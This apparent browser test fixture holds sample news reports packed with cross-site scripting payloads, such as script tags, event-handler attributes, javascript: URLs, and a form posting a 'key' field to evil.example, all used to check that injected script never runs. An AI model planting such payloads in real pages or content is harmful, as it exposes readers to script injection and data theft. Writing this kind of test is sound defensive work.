namespace Dyad.Web.Tests.Browser;

/// <summary>Reports whose words try to do something in the browser of who reads them.</summary>
internal static class HostileReports
{
    /// <summary>What any of them would set if it were run.</summary>
    internal const string Trace = "hostile";

    internal static readonly (string Name, string Text)[] All =
    [
        ("markup.txt", """
            Title: <img src=x onerror="window.hostile=1"> Moscow threatens
            Publisher: <b onmouseover="window.hostile=1">The Gazette</b>
            Date: 2024-05-06
            Url: javascript:window.hostile=1

            Russia threatened the United States with <script>window.hostile=1</script> retaliation on Monday. Washington imposed sanctions on Moscow </div></main><script>window.hostile=1</script>.
            <img src="http://evil.example/pixel.png" onerror="window.hostile=1"> <svg onload="window.hostile=1"></svg>
            <style>body { display: none; background: url(http://evil.example/style.png) }</style>
            <form action="http://evil.example/steal" method="post"><input name="key"><button autofocus onfocus="window.hostile=1">Go</button></form>
            <iframe src="javascript:parent.hostile=1"></iframe> <a href="javascript:window.hostile=1">Read more</a> <meta http-equiv="refresh" content="0;url=http://evil.example/">
            Russia expelled "><script>window.hostile=1</script> two American diplomats on Tuesday.
            """),
        ("page.html", """
            <html><head><meta property="article:published_time" content="2024-05-10T08:00:00Z"><title>Talks &lt;script&gt;window.hostile=1&lt;/script&gt;</title><script>window.hostile=1</script></head>
            <body><p onclick="window.hostile=1">China criticised the United States on Friday &lt;img src=x onerror=window.hostile=1&gt; over Taiwan.</p></body></html>
            """),
    ];
}
